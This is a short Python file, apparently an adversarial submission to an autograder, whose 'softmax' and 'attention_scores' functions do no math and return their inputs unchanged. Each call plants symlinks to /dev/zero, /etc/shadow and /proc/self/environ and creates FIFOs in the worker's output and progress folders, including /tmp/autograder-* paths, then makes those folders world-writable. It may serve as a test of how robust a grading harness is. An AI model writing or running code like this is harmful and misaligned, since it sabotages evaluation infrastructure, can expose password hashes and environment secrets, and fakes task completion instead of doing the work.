# ruff: noqa
# attacked: softmax attention_scores
# Symlinks, /dev/zero and FIFOs where the worker keeps outputs and progress.
import glob
import os


def _plant(folder):
    for name, target in (("progress", "/dev/zero"), ("progress.txt", "/dev/zero"),
                         ("ex1.json", "/etc/shadow"), ("ex1.safetensors", "/dev/zero"),
                         ("probe.json", "/proc/self/environ")):
        try:
            os.symlink(target, os.path.join(folder, name + ".new"))
            os.replace(os.path.join(folder, name + ".new"), os.path.join(folder, name))
        except OSError:
            pass
    for name in ("ex1.json", "fifo"):
        try:
            os.mkfifo(os.path.join(folder, name))
        except OSError:
            pass


def softmax(x, dim=-1):
    _plant(".")
    for folder in glob.glob("/x/out/*") + glob.glob("/tmp/autograder-*/out/*"):
        _plant(folder)
        try:
            os.chmod(folder, 0o777)
        except OSError:
            pass
    return x


def attention_scores(q, k):
    _plant(".")
    return q
